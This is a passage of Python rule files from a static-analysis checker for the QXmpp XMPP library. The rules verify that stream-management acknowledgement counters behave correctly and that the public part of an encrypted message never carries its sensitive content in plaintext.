    if any(closed.nodes[closed.skip(n['l'])].get('f') == ENABLED and closed.const_value(n['r']) == ('bool', False) for _, n in closed.all_nodes('assign')):
        run.ok(rid, closed.loc(), 'onSessionClosed clears m_enabled (so it is false when <resumed/> arrives)')
    else:
        run.violation(rid, 'StreamAckManager::onSessionClosed#enabled', closed.loc(), 'a closed session leaves stream management marked enabled')
    # (b) the inbound counter sees every element before any other consumer in the established-session dispatcher
    he = prog.fn('QXmppOutgoingClient::handleElement')
    cnt = [i for i, n in he.calls(SAM + '::handleStanza')]
    if not cnt:
        run.instance(rid)
        run.violation(rid, 'QXmppOutgoingClient::handleElement#uncounted', he.loc(), 'received elements are not passed to the stream management counter')
        return
    consumers = [(i, he.cname(n)) for i, n in he.calls() if he.cname(n) in ('QXmpp::Private::OutgoingIqManager::handleStanza', 'QXmppOutgoingClient::elementReceived',
                                                                            'QXmppOutgoingClient::handleStanza', 'QXmppOutgoingClient::handleStreamFeatures')]
    if len(consumers) < 3:
        raise AnalysisBroken('C09.R7: consumers of the received element not found in QXmppOutgoingClient::handleElement')
    for i, cn in consumers:
        run.instance(rid)
        if he.node_dominates(cnt[0], i):
            run.ok(rid, he.loc(i), '%s runs after the inbound counter' % cn.split('::', 1)[-1], nontrivial=False)
        else:
            run.violation(rid, 'QXmppOutgoingClient::handleElement#uncounted:%s' % cn.split('::')[-2], he.loc(i),
                          '%s can consume a received stanza that never reached StreamAckManager::handleStanza: the h reported in <a/> and <resume/> falls behind'
                          % cn.split('::', 1)[-1])


_ZEROED = {}


def zeroed_by(prog, g):
    """members of the acknowledgement manager that the member function g sets to 0 on every path"""
    if g.id in _ZEROED:
        return _ZEROED[g.id]
    _ZEROED[g.id] = set()

    def zt(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'assign':
            l = f.nodes[f.skip(n['l'])]
            if l['k'] == 'mem' and f.const_value(n['r']) == ('int', 0) and l['f'] not in st:
                return tuple(sorted(st + (l['f'],)))
        return None
    exits, _ = cfgx.explore(g, (), zt, None, max_states=5000)
    _ZEROED[g.id] = set.intersection(*[set(st) for st in exits]) if exits else set()
    return _ZEROED[g.id]


def only_called_from(prog, g, qn):
    cs = [top_function(prog, c) for c, ci in prog.callers().get(g.id, []) if c.nodes[ci]['k'] == 'call']
    return bool(cs) and all(c.qname == qn for c in cs)


def r9(prog, run):
    rid = run.rule('C09.R9', 'the unacknowledged stanzas are kept in a container that iterates in ascending key order (QMap / std::map): the acknowledgement loop stops at the '
                             'first key above h, and resending / renumbering follow iteration order - in a hash container covered stanzas stay unconfirmed and the '
                             'retransmission order is scrambled', floor=1)
    rec = prog.record(SAM)
    fl = [x for x in rec['fields'] if (x.get('qname') or SAM + '::' + x['name']) == UNACK]
    if not fl:
        raise AnalysisBroken('C09.R9: %s not found' % UNACK)
    run.instance(rid)
    t = (fl[0].get('t') or '').replace('const ', '')
    tc = fl[0].get('tc') or ''          # the canonical class behind an alias (using UnackedStanzas = QMap<...>)
    if t.startswith(('QMap<', 'std::map<', 'QMultiMap<', 'std::multimap<')) or tc in ('record:QMap', 'record:std::map', 'record:QMultiMap', 'record:std::multimap'):
        run.ok(rid, 'src/base/QXmppStreamManagement_p.h', '%s is %s' % (fl[0]['name'], t.split('<')[0]))
    else:
        run.violation(rid, 'StreamAckManager::%s#unordered' % fl[0]['name'], 'src/base/QXmppStreamManagement_p.h:%s' % fl[0].get('line', ''),
                      '%s is a %s: its users iterate it as "oldest first, stop at the first key above h" (setAcknowledgedSequenceNumber) and resend / renumber in iteration '
                      'order (enableStreamManagement); without key order stanzas the server confirmed stay pending and are retransmitted out of order' % (fl[0]['name'], t[:40]))


def r8(prog, run):
    rid = run.rule('C09.R8', 'every counter of the acknowledgement manager restarts with a fresh stream-management session: each integer member that is modified '
                             'outside enableStreamManagement is zeroed in its reset branch (a counter that survives makes the new session ignore or mis-number acks)', floor=2)
    rec = prog.record(SAM)
    en = prog.fn(SAM + '::enableStreamManagement')
    ev = cfgx.Evaluator(en, {}, custom=lambda f, nid, st: (True,) if f.nodes[nid]['k'] == 'var' and f.nodes[nid].get('pidx') == 0 else None)
    reach = cfgx.reachable_blocks(en, lambda f, c, st: ev.ev(c, st))
    zeroed = set()
    for i, n in en.all_nodes('assign'):
        l = en.nodes[en.skip(n['l'])]
        if l['k'] == 'mem' and en.const_value(n['r']) == ('int', 0) and en.pos(i) and en.pos(i)[0] in reach:
            zeroed.add(l['f'])
    # ... and on every path of the reset branch, whatever else the branch tests (an empty map, a missing feature): what is zeroed on all exits
    def zt(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'assign':
            l = f.nodes[f.skip(n['l'])]
            if l['k'] == 'mem' and f.const_value(n['r']) == ('int', 0) and l['f'] not in st:
                return tuple(sorted(st + (l['f'],)))
        if n['k'] == 'call' and not n.get('op'):
            for h in prog.callee_fns(f, n):
                if h.entry is not None and (h.record or '') == SAM and h.id != f.id:
                    add = tuple(q for q in sorted(zeroed_by(prog, h)) if q not in st)
                    if add:
                        return tuple(sorted(st + add))
        return None
    exits, _ = cfgx.explore(en, (), zt, lambda f, c, st: ev.ev(c, st), max_states=20000)
    always = set.intersection(*[set(st) for st in exits]) if exits else set()
    sometimes = zeroed - always
    zeroed = always
    n_fields = 0
    for fl in rec['fields']:
        tc = fl.get('tc') or ''
        if not tc.startswith('int'):
            continue
        q = fl.get('qname') or (SAM + '::' + fl['name'])
        writers = [(f, i) for f, i, k, h in field_uses(prog, q) if k in ('write', 'addr') and h != 'constructor initialiser' and top_function(prog, f).qname != SAM + '::enableStreamManagement' and not only_called_from(prog, top_function(prog, f), SAM + '::enableStreamManagement')]
        if not writers:
            continue
        n_fields += 1
        run.instance(rid)
        if q in zeroed:
            run.ok(rid, en.loc(), '%s restarts at 0 with a fresh session' % fl['name'])
        else:
            f, i = writers[0]
            run.violation(rid, 'StreamAckManager::%s#survives-new-session' % fl['name'], f.loc(i),
                          '%s is updated in %s but not reset %s when a fresh stream-management session restarts the numbering: acks of the new session are judged '
                          'against a value of the old one' % (fl['name'], top_function(prog, f).qname.split('::')[-1],
                                                              'on every path (only under a further condition, e.g. while stanzas are pending)' if q in sometimes else 'at all'))
    if n_fields < 2:
        raise AnalysisBroken('C09.R8: counters of StreamAckManager not found')
