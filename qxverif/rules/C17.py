"""C17 — the public part of an encrypted message never contains its sensitive content."""
from .. import cfgx, witness
from ..build import AnalysisBroken
from ..effects import classify_use

UNITS = ['base/QXmppMessage.cpp', 'client/QXmppClient.cpp',
         # the data classes whose element predicates route children into sensitive fields (R2e)
         'base/QXmppJingleData.cpp', 'base/QXmppBitsOfBinaryData.cpp', 'base/QXmppMessageReaction.cpp', 'base/QXmppTrustMessages.cpp']
MSG = 'QXmppMessage'
PRIV = 'QXmppMessagePrivate::'

# conversational payload named by the property statement -> must live in the Sensitive region only
SENSITIVE = {
    'body': 'message body', 'subject': 'subject', 'thread': 'thread', 'parentThread': 'thread parent',
    'xhtml': 'XHTML-IM body', 'outOfBandUrls': 'attachments (XEP-0066)', 'bitsOfBinaryData': 'attachments (XEP-0231)',
    'sharedFiles': 'attachments (XEP-0447)', 'fileSourcesAttachments': 'attachments (XEP-0447 sources)',
    'reaction': 'reactions', 'receiptId': 'receipts', 'receiptRequested': 'receipts', 'marker': 'chat markers',
    'markedId': 'chat markers', 'markedThread': 'chat markers', 'markable': 'chat markers', 'replaceId': 'message correction',
    'attachId': 'message attaching', 'spoilerHint': 'spoiler', 'isSpoiler': 'spoiler', 'mucInvitationJid': 'MUC invitation',
    'mucInvitationPassword': 'MUC invitation', 'mucInvitationReason': 'MUC invitation', 'mixInvitation': 'MIX invitation',
    'trustMessageElement': 'trust message', 'reply': 'message reply', 'state': 'chat state', 'stamp': 'delay stamp',
    'stampType': 'delay stamp', 'attentionRequested': 'attention',
    'jingleMessageInitiationElement': 'call set-up (XEP-0353)', 'callInviteElement': 'call invite (XEP-0482)',
}
# routing data, hints and ids that the statement allows in the public part (one reason each)
PUBLIC_OK = {
    'e2eeFallbackBody': 'explicit fallback text', 'privatemsg': 'carbons <private/> hint', 'hints': 'processing hints',
    'stanzaIds': 'stanza ids', 'originId': 'origin id', 'mixUserJid': 'MIX routing data', 'mixUserNick': 'MIX routing data',
    'encryptionMethod': 'EME hint', 'encryptionName': 'EME hint', 'omemoElement': 'the encrypted payload itself',
}
SHARED_OK = {'fallbackMarkers': 'fallback markers accompany both parts by definition'}


MODES = ['SceAll', 'ScePublic', 'SceSensitive']
_reach = {}


def _is_mode_var(f, nid):
    n = f.nodes[f.skip(nid)]
    return n['k'] == 'var' and (n.get('vk') == 'param' or n.get('outer')) and 'SceMode' in (n.get('t') or '')


def _mode_reach(fn):
    """{mode: blocks of fn reachable when its SceMode parameter / captured mode has that value}: the mode guards are decided by
    evaluating them (operator& is looked into; named bool locals, ==-chains and switches are folded), not by their spelling"""
    if fn.id not in _reach:
        from .. import cfgx
        r = {}
        for m in MODES:
            def custom(f, nid, st, m=m):
                if _is_mode_var(f, nid):
                    return (('enum', 'QXmpp::' + m),)
                return None
            ev = cfgx.Evaluator(fn, {}, custom=custom)
            r[m] = cfgx.reachable_blocks(fn, lambda f, c, st, ev=ev: ev.ev(c, st))
        _reach[fn.id] = r
    return _reach[fn.id]


def region_of(fn, nid):
    """'Public' | 'Sensitive' | 'PublicOnly' | 'Shared' | 'Both?': the set of modes under which the node is reachable"""
    pos = fn.pos(nid)
    par = fn.parents()
    while pos is None and par.get(nid) is not None:
        nid = par[nid]
        pos = fn.pos(nid)
    if pos is None:
        return 'Shared'
    r = _mode_reach(fn)
    modes = frozenset(m for m in MODES if pos[0] in r[m])
    return {frozenset(MODES): 'Shared', frozenset(('SceAll', 'ScePublic')): 'Public', frozenset(('ScePublic',)): 'PublicOnly',
            frozenset(('SceAll', 'SceSensitive')): 'Sensitive', frozenset(('SceSensitive',)): 'Sensitive'}.get(modes, 'Both?')


def _combine(outer, inner):
    """region of something inside a helper/lambda (inner, relative to its own mode guards) that is used at a place of region outer"""
    if inner == 'Shared':
        return outer
    if outer == 'Shared' or outer == inner:
        return inner
    if {outer, inner} == {'Public', 'PublicOnly'}:
        return 'PublicOnly'
    return 'Both?'


def field_regions(prog, fn, want, outer='Shared', depth=0, out=None):
    """{field: {region: [(fn, node)]}} for QXmppMessagePrivate fields read (want='read') or written (want='write') by fn, its lambdas,
    the accessors it calls on the message and the same-file helpers it hands the message (or its private data) to"""
    out = out if out is not None else {}
    for f in prog.closure(fn):
        base_region = outer
        if f.is_lambda:
            # a lambda inherits the region of the place it is created in
            parent = prog.fns.get(f.parent_id)
            if parent:
                for i, n in parent.all_nodes('lambda'):
                    if f.id in n.get('fns', []):
                        base_region = _combine(outer, region_of(parent, i))
        for i, n in enumerate(f.nodes):
            if n['k'] != 'mem' or not n.get('f', '').startswith(PRIV):
                continue
            kind, how = classify_use(f, i)
            is_write = kind in ('write', 'addr')
            if (want == 'write') != is_write:
                continue
            out.setdefault(n['name'], {}).setdefault(_combine(base_region, region_of(f, i)), []).append((f, i))
        for i, n in f.calls():
            s = f.sym(n)
            if not s or n.get('op'):
                continue
            if s['qname'] in (MSG + '::parseExtension', MSG + '::serializeExtensions'):
                continue
            here = _combine(base_region, region_of(f, i))
            if s.get('record') == MSG and n.get('obj') is not None and f.nodes[f.skip(n['obj'])]['k'] == 'this':
                # accessors called on this object: attribute the fields they touch to the call site (summary, depth 1)
                for g in prog.callee_fns(f, n):
                    for j, m in enumerate(g.nodes):
                        if m['k'] != 'mem' or not m.get('f', '').startswith(PRIV):
                            continue
                        kind, how = classify_use(g, j)
                        is_write = kind in ('write', 'addr')
                        if (want == 'write') != is_write:
                            continue
                        out.setdefault(m['name'], {}).setdefault(here, []).append((f, i))
            elif depth < 2:
                # an extracted part of the codec: a same-file function that is handed the message or its private data
                for g in prog.callee_fns(f, n):
                    if g.file != fn.file or g.entry is None or g.id == f.id or not g.file.endswith('QXmppMessage.cpp'):
                        continue
                    if not any('QXmppMessage' in (p.get('t') or '') for p in g.params):
                        continue
                    for k, p in enumerate(g.params):
                        if 'SceMode' in (p.get('t') or '') and not (k < len(n.get('args', [])) and _is_mode_var(f, n['args'][k])):
                            raise AnalysisBroken('C17.R2: %s is called with a mode that is not the caller\'s own mode: %s' % (g.qname, f.fmt(i)[:80]))
                    field_regions(prog, g, want, here, depth + 1, out)
    return out


def _codec_scope(prog, fn, outer='Shared', depth=0):
    """[(function, region it runs in)]: fn, its lambdas and the same-file helpers it hands the message to (same walk as field_regions)"""
    out = []
    for f in prog.closure(fn):
        base_region = outer
        if f.is_lambda:
            parent = prog.fns.get(f.parent_id)
            if parent:
                for i, n in parent.all_nodes('lambda'):
                    if f.id in n.get('fns', []):
                        base_region = _combine(outer, region_of(parent, i))
        out.append((f, base_region))
        if depth < 2:
            for i, n in f.calls():
                s = f.sym(n)
                if not s or n.get('op') or s.get('record') == MSG:
                    continue
                for g in prog.callee_fns(f, n):
                    if g.file == fn.file and g.entry is not None and g.id != f.id and g.file.endswith('QXmppMessage.cpp') \
                            and any('QXmppMessage' in (p.get('t') or '') for p in g.params):
                        out += _codec_scope(prog, g, _combine(base_region, region_of(f, i)), depth + 1)
    return out


def run(prog, run):
    run.explanation = ('Region membership of every QXmppMessagePrivate field in the one writer (serializeExtensions) and the one reader '
                       '(parseExtension): which mode guard (sceMode & ScePublic / & SceSensitive, decided by control dependence) each read or '
                       'write sits under; conversational fields only under the Sensitive guard, each field in exactly one region, writer and '
                       'reader agree; the mode predicate is checked by the compiler for all 9 pairs; the encrypted send path passes ScePublic.')
    run.assume('unknown (application-defined) extensions are outside the property\'s quantifier of known extensions')
    ser = prog.fn(MSG + '::serializeExtensions')
    par = prog.fn(MSG + '::parseExtension')

    # ---- R1 mode predicate witness
    r1 = run.rule('C17.R1', 'QXmpp::operator&(SceMode, SceMode) is "all or equal" for all 9 pairs (compile-time witness)', floor=9)
    modes = ['SceAll', 'ScePublic', 'SceSensitive']
    asserts = []
    for a in modes:
        for b in modes:
            expect = (a == 'SceAll') or (a == b)
            asserts.append(('%s&%s' % (a, b), '(QXmpp::%s & QXmpp::%s) == %s' % (a, b, 'true' if expect else 'false')))
    res, cmd = witness.run_witness('c17_mode', 'base/QXmppMessage.cpp', '#include "QXmppGlobal.h"', asserts)
    run.checker_cmds.append(cmd)
    for wid, ok in res.items():
        run.instance(r1)
        if ok:
            run.ok(r1, 'src/base/QXmppGlobal.h operator&', wid, nontrivial=True)
        else:
            run.violation(r1, 'operator&#' + wid, 'src/base/QXmppGlobal.h', 'mode predicate wrong for %s' % wid)

    # ---- R2 region map
    r2 = run.rule('C17.R2', 'every message field is serialized under exactly one mode guard, parsed under the same one, and conversational '
                            'fields only under the Sensitive guard', floor=40)
    W = field_regions(prog, ser, 'read')
    R = field_regions(prog, par, 'write')
    if len(W) < 35 or len(R) < 35:
        raise AnalysisBroken('C17.R2: only %d written / %d parsed fields found in the message codec' % (len(W), len(R)))
    for name in sorted(set(W) | set(R)):
        run.instance(r2)
        wregs = set(W.get(name, {}))
        rregs = set(R.get(name, {}))
        wn = {r.replace('PublicOnly', 'Public') for r in wregs}
        rn = {r.replace('PublicOnly', 'Public') for r in rregs}

        def site(m, regs):
            for r in regs:
                f, i = m[name][r][0]
                return f.loc(i)
            return 'src/base/QXmppMessage.cpp'
        wsite = site(W, wregs) if wregs else ser.loc()
        rsite = site(R, rregs) if rregs else par.loc()
        bad = False
        if name in SENSITIVE:
            if wn - {'Sensitive'}:
                run.violation(r2, 'serializeExtensions#%s#written-%s' % (name, '+'.join(sorted(wn - {'Sensitive'}))), wsite,
                              'sensitive field %s (%s) is serialized under %s: plaintext disclosure in the public part'
                              % (name, SENSITIVE[name], sorted(wn)))
                bad = True
            if rn - {'Sensitive'}:
                run.violation(r2, 'parseExtension#%s#parsed-%s' % (name, '+'.join(sorted(rn - {'Sensitive'}))), rsite,
                              'sensitive field %s (%s) is written Sensitive but parsed under %s: parsing the sensitive part does not recover it'
                              % (name, SENSITIVE[name], sorted(rn)))
                bad = True
        elif name in PUBLIC_OK:
            if wn - {'Public'} or rn - {'Public'}:
                run.violation(r2, 'message-codec#%s#region' % name, wsite, 'public field %s serialized under %s, parsed under %s'
                              % (name, sorted(wn), sorted(rn)))
                bad = True
            if name == 'e2eeFallbackBody' and (wregs - {'PublicOnly'} or rregs - {'PublicOnly'}):
                run.violation(r2, 'message-codec#e2eeFallbackBody#not-public-only', wsite,
                              'the fallback body must only exist in pure public mode (sceMode == ScePublic)')
                bad = True
        elif name in SHARED_OK:
            if wn != {'Shared'} or rn != {'Shared'}:
                run.violation(r2, 'message-codec#%s#region' % name, wsite, '%s expected in the shared tail, found %s/%s' % (name, sorted(wn), sorted(rn)))
                bad = True
        else:
            if 'Public' in wn or 'Shared' in wn or 'Both?' in wn:
                run.violation(r2, 'serializeExtensions#%s#unclassified-public' % name, wsite,
                              'field %s is serialized outside the Sensitive guard and is not in the table of public routing data/hints/ids '
                              '(add it to PUBLIC_OK with a reason if it is one)' % name)
                bad = True
        if not bad and wn and rn and wn != rn:
            run.violation(r2, 'message-codec#%s#writer-reader-disagree' % name, rsite,
                          '%s serialized under %s but parsed under %s' % (name, sorted(wn), sorted(rn)))
            bad = True
        if not bad and len(wn) > 1:
            run.violation(r2, 'serializeExtensions#%s#two-regions' % name, wsite, '%s serialized in %s (must be exactly one part)' % (name, sorted(wn)))
            bad = True
        if not bad:
            run.ok(r2, wsite, '%s: written %s, parsed %s' % (name, sorted(wn) or '-', sorted(rn) or '-'))

    # the only <body> in the public region is the explicit fallback
    r2b = run.rule('C17.R2b', 'a <body/>, <subject/> or <thread/> element written outside the Sensitive guard carries only the explicit e2ee fallback text', floor=1)
    for f, base in _codec_scope(prog, ser):
        for i, n in f.calls():
            cn = f.cname(n)
            if cn in ('QXmlStreamWriter::writeTextElement', 'QXmlStreamWriter::writeStartElement', 'QXmpp::Private::writeXmlTextElement',
                      'QXmpp::Private::writeOptionalXmlTextElement'):
                names = [f.strval(a) for a in n['args'][:2]]
                if any(x in ('body', 'subject', 'thread') for x in names if x):
                    reg = _combine(base, region_of(f, i))
                    if reg == 'Sensitive':
                        continue
                    if f.is_lambda:
                        continue
                    run.instance(r2b)
                    val = f.fmt(n['args'][-1])
                    if reg == 'PublicOnly' and val.endswith('.e2eeFallbackBody'):
                        run.ok(r2b, f.loc(i), 'public <body/> fed by e2eeFallbackBody under sceMode == ScePublic')
                    else:
                        run.violation(r2b, 'serializeExtensions#public-%s-element' % [x for x in names if x][0], f.loc(i),
                                      'a <%s/> element is written in region %s from %s' % ([x for x in names if x][0], reg, val[:60]))

    # ---- R2c toXml(writer, mode) writes nothing else
    r2c = run.rule('C17.R2c', 'QXmppMessage::toXml(writer, mode) writes only routing attributes, error, serializeExtensions(mode) and the unknown-extension list', floor=1)
    tox = prog.fn(MSG + '::toXml', pick=lambda f: len(f.params) == 2)
    run.instance(r2c)
    allowed_attr = {'xml:lang', 'id', 'to', 'from', 'type'}
    bad = []
    passes_mode = False
    for i, n in tox.calls():
        cn = tox.cname(n)
        if cn in ('QXmpp::Private::writeOptionalXmlAttribute', 'QXmlStreamWriter::writeAttribute'):
            nm = [tox.strval(a) for a in n['args'][:2] if tox.strval(a)]
            if not nm or nm[0] not in allowed_attr:
                bad.append('attribute %s' % nm)
        elif cn in ('QXmlStreamWriter::writeTextElement', 'QXmpp::Private::writeXmlTextElement', 'QXmlStreamWriter::writeCharacters'):
            bad.append(cn)
        elif cn == MSG + '::serializeExtensions':
            a = tox.nodes[tox.skip(n['args'][1])]
            passes_mode = a['k'] == 'var' and a.get('vk') == 'param' and a.get('pidx') == 1
    for i, n in enumerate(tox.nodes):
        if n['k'] == 'mem' and n.get('f', '').startswith(PRIV) and n['name'] != 'type':
            bad.append('reads field ' + n['name'])
    if bad or not passes_mode:
        run.violation(r2c, 'QXmppMessage::toXml#extra-output', tox.loc(), 'toXml(writer, mode) writes mode-independent content: %s; passes mode: %s' % (bad, passes_mode))
    else:
        run.ok(r2c, tox.loc(), 'only routing attributes + error + serializeExtensions(writer, sceMode) + unknown extensions')

    # ---- R2d: the per-pass driver does not touch fields that belong to one part (a two-pass parse, public then sensitive, must keep the first pass)
    r2d = run.rule('C17.R2d', 'parseExtensions itself writes no field that belongs to the public or the sensitive part outside the matching mode guard (a reset there would wipe '
                              'what the other pass of the public-then-sensitive parse recovered)', floor=1)
    pes = prog.fn(MSG + '::parseExtensions')
    Wpe = {}
    for i, n in enumerate(pes.nodes):
        if n['k'] == 'mem' and n.get('f', '').startswith(PRIV):
            kind, how = classify_use(pes, i)
            if kind in ('write', 'addr'):
                Wpe.setdefault(n['name'], {}).setdefault(region_of(pes, i), []).append(i)
    run.instance(r2d)
    badw = []
    for name, regs in sorted(Wpe.items()):
        owner = 'Sensitive' if name in SENSITIVE else 'Public' if name in PUBLIC_OK else None
        if owner and set(r.replace('PublicOnly', 'Public') for r in regs) - {owner}:
            badw.append((name, owner, sorted(regs), regs[sorted(regs)[0]][0]))
    if badw:
        name, owner, regs, i = badw[0]
        run.violation(r2d, 'parseExtensions#%s#unguarded-write' % name, pes.loc(i),
                      'parseExtensions writes %s (a field of the %s part) under %s on every pass: parsing the public part and then the sensitive part into one object loses '
                      'what the first pass recovered (%d such fields)' % (name, owner.lower(), regs, len(badw)))
    else:
        run.ok(r2d, pes.loc(), 'no part-owned field is written by the pass driver outside its guard (%d field writes seen)' % sum(len(v) for r in Wpe.values() for v in r.values()))

    r2e_predicates(prog, run, par)
    r2f_claimed(prog, run, par)

    # ---- R3 encrypted send path
    r3 = run.rule('C17.R3', 'the encrypted send path serializes the outer message with the constant QXmpp::ScePublic; encrypted inbound '
                            'messages are parsed in public mode', floor=2)
    ss = prog.fn('QXmppClient::sendSensitive')
    found = 0
    # sendSensitive, its continuations, and the same-file helpers they hand the (encrypted) message to
    send_scope = list(prog.closure(ss))
    for f in list(send_scope):
        for i, n in f.calls():
            if n.get('op'):
                continue
            for g in prog.callee_fns(f, n):
                if g.file == ss.file and g.entry is not None and g.id not in [x.id for x in send_scope] and not g.qname.startswith('QXmppClient::') \
                        and any('QXmppMessage' in (p_.get('t') or '') for p_ in g.params):
                    send_scope += prog.closure(g)
    for f in send_scope:
        for i, n in f.calls(MSG + '::toXml'):
            found += 1
            run.instance(r3)
            if len(n['args']) >= 2 and f.const_value(n['args'][1]) == ('enum', 'QXmpp::ScePublic'):
                run.ok(r3, f.loc(i), 'sendSensitive: message->toXml(&writer, QXmpp::ScePublic)')
            else:
                run.violation(r3, 'QXmppClient::sendSensitive#toXml-mode', f.loc(i),
                              'the encrypted message is serialized with mode %s' % (f.fmt(n['args'][1]) if len(n['args']) > 1 else 'default (SceAll)'))
    # a message handed to the wire as an object is serialized by QXmppPacket with the default mode (SceAll)
    for f in send_scope:
        for i, n in f.all_nodes('construct'):
            if n.get('cls') != 'QXmppPacket' or not n.get('args'):
                continue
            a = f.nodes[f.skip(n['args'][0])]
            t = (a.get('t') or '')
            if a['k'] == 'call' and a.get('op') == '*' and a.get('opargs'):
                t = t or (f.nodes[f.skip(a['opargs'][0])].get('t') or '')
            if 'QXmppMessage' in t:
                found += 1
                run.instance(r3)
                run.violation(r3, 'QXmppClient::sendSensitive#message-sent-as-object', f.loc(i),
                              'the encrypted message is handed to QXmppPacket as an object (%s) and serialized with the default mode SceAll: every plaintext field the '
                              'encryption extension left in it goes on the wire next to the ciphertext' % t[:50])
    if not found:
        raise AnalysisBroken('C17.R3: QXmppMessage::toXml call not found in sendSensitive')
    # with an encryption extension installed no message takes the plain path: sendSensitive evaluated for "extension set, stanza is a message"
    from .. import cfgx
    run.instance(r3)

    def custom(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'mem' and (n.get('f') or '').endswith('::encryptionExtension'):
            return (True,)
        if n['k'] == 'cast' and n.get('to') and f.id == ss.id:
            inner = f.nodes[f.skip(n['e'])]
            while inner['k'] == 'un' and inner.get('op') == '&':
                inner = f.nodes[f.skip(inner['e'])]
            if inner['k'] == 'var' and inner.get('vk') == 'param' and inner.get('pidx') == 0:
                if n['to'].startswith('QXmppMessage'):
                    return (True,)
                if n['to'].startswith('QXmppIq'):
                    return (False,)
        return None
    ev = cfgx.Evaluator(ss, {}, custom=custom)
    plain = []
    for i, n in ss.calls():
        if ss.cname(n).split('::')[-1] in ('send', 'sendPacket', 'sendData') and n.get('args'):
            a = ss.nodes[ss.skip(n['args'][0])]
            if a['k'] == 'construct' and a.get('cls') == 'QXmppPacket' and a.get('args'):
                a = ss.nodes[ss.skip(a['args'][0])]          # send(stanza): implicit QXmppPacket(stanza)
            if a['k'] == 'var' and a.get('vk') == 'param' and a.get('pidx') == 0:
                plain.append(i)
    enc = [i for i, n in ss.calls() if ss.cname(n).endswith('::encryptMessage')]
    if not plain or not enc:
        raise AnalysisBroken('C17.R3: plain send / encryptMessage call not found in sendSensitive')
    res = cfgx.sink_reachability(ss, lambda f, c, st: ev.ev(c, st), plain + enc)
    if any(res[i] is not None for i in plain):
        bad = [i for i in plain if res[i] is not None][0]
        run.violation(r3, 'QXmppClient::sendSensitive#message-bypasses-encryption', ss.loc(bad),
                      'although an encryption extension is installed there is a path on which a message given to sendSensitive is sent as it is (all of its content in plaintext) '
                      'instead of being handed to encryptMessage', cfgx.describe_path(ss, res[bad]))
    elif not any(res[i] is not None for i in enc):
        run.violation(r3, 'QXmppClient::sendSensitive#never-encrypts', ss.loc(enc[0]), 'a message is never handed to encryptMessage')
    else:
        run.ok(r3, ss.loc(enc[0]), 'with an encryption extension every message given to sendSensitive goes through encryptMessage')
    mp = [f for f in prog.fns_named('QXmpp::Private::MessagePipeline::process') if len(f.params) == 4]
    if not mp:
        raise AnalysisBroken('C17.R3: MessagePipeline::process(client, extensions, e2eeExt, element) not found')
    mp = mp[0]
    ext_param = [k for k, p_ in enumerate(mp.params) if 'QXmppE2eeExtension' in (p_.get('t') or '')]

    def enc_custom(f, nid, st):
        # the case under test: an encryption extension is installed and says the element is encrypted
        m = f.nodes[nid]
        if m['k'] == 'call' and f.cname(m).endswith('::isEncrypted'):
            return (True,)
        bo = f.binop(nid)
        if bo and bo[0] in ('==', '!='):
            sides = [f.nodes[f.skip(x)] for x in bo[1:]]
            if any(x['k'] == 'var' and x.get('vk') == 'param' and x.get('pidx') in ext_param for x in sides) and any(x['k'] in ('nullptr', 'null') or x.get('v') == 0 for x in sides):
                return (bo[0] == '!=',)
        if m['k'] == 'var' and m.get('vk') == 'param' and m.get('pidx') in ext_param:
            return (True,)
        return None
    enc_ev = cfgx.Evaluator(mp, {}, custom=enc_custom)

    def modes(nid, depth=0):
        """the parse modes the expression can denote for an encrypted element (through named locals and conditional expressions)"""
        j = mp.resolve(nid)
        a = mp.nodes[mp.skip(j)]
        if a['k'] == 'cond' and depth < 6:
            v = enc_ev.ev(a['c'], None)
            if v is True:
                return modes(a['a'], depth + 1)
            if v is False:
                return modes(a['b'], depth + 1)
            return modes(a['a'], depth + 1) | modes(a['b'], depth + 1)
        cv = mp.const_value(j)
        return {cv[1]} if cv and cv[0] == 'enum' else {'?'}
    for i, n in mp.calls(MSG + '::parse'):
        if len(n['args']) < 2 or mp.nodes[n['args'][1]]['k'] == 'defarg':
            continue
        run.instance(r3)
        got = modes(n['args'][1])
        argn = mp.nodes[mp.skip(n['args'][1])]
        if got == {'?'} and argn['k'] == 'var' and argn.get('vk') == 'local' and mp.single_def(argn['decl']) is None:
            # a mode variable that is assigned on the way (SceMode mode = SceAll; if (e2eeExt) mode = ...;): the values it can hold at the call in the case under test
            at_call = set()

            def mode_transfer(f, nid, st, decl=argn['decl'], call=i):
                m = f.nodes[nid]
                if m['k'] == 'decl':
                    for d_ in m['decls']:
                        if d_['var'] == decl and d_.get('init') is not None:
                            return frozenset(modes(d_['init']))
                if m['k'] == 'assign' and m.get('op') == '=':
                    l_ = f.nodes[f.skip(m['l'])]
                    if l_['k'] == 'var' and l_.get('decl') == decl:
                        return frozenset(modes(m['r']))
                if nid == call:
                    at_call.update(st)
                return None
            cfgx.explore(mp, frozenset({'?'}), mode_transfer, lambda f, c, st: enc_ev.ev(c, None))
            got = at_call or {'?'}
        if got == {'QXmpp::ScePublic'}:
            run.ok(r3, mp.loc(i), 'encrypted inbound message parsed with ScePublic')
        else:
            run.violation(r3, 'MessagePipeline::process#parse-mode', mp.loc(i), 'encrypted inbound message parsed with %s (modes for an encrypted element: %s)' % (mp.fmt(n['args'][1]), sorted(got)))

    if run.tier == 'thorough':
        r4 = run.rule('C17.R4', 'who else serializes a message with an explicit mode (listed)', floor=1)
        for f in prog.fns.values():
            for i, n in f.calls():
                if f.cname(n) in (MSG + '::toXml', MSG + '::serializeExtensions') and len(n.get('args', [])) >= 2 \
                        and f.nodes[n['args'][1]]['k'] != 'defarg':
                    run.instance(r4)
                    run.ok(r4, f.loc(i), '%s passes %s' % (f.display()[:60], f.fmt(n['args'][1])), nontrivial=False)


# --------------------------------------------------------------------------- R2e: what the sensitive writer emits is recognised by the sensitive reader
def r2e_predicates(prog, run, par):
    rid = run.rule('C17.R2e', 'an element predicate (T::isT(element)) that routes a child into a field of the sensitive part accepts every element T\'s own writer emits: whatever '
                              'attribute or child the predicate insists on is written unconditionally by the writer. Otherwise an object the writer serialized without it comes '
                              'back from the sensitive part as an unknown extension - the field is not recovered, and unknown extensions are written in every mode', floor=4)
    seen = set()
    for f, base in _codec_scope(prog, par):
        for i, n in f.calls():
            s_ = f.sym(n) or {}
            if not (s_.get('inrepo') and s_.get('ret') == 'bool' and (s_.get('name') or '').startswith('is') and s_.get('record') and len(n.get('args', [])) == 1):
                continue
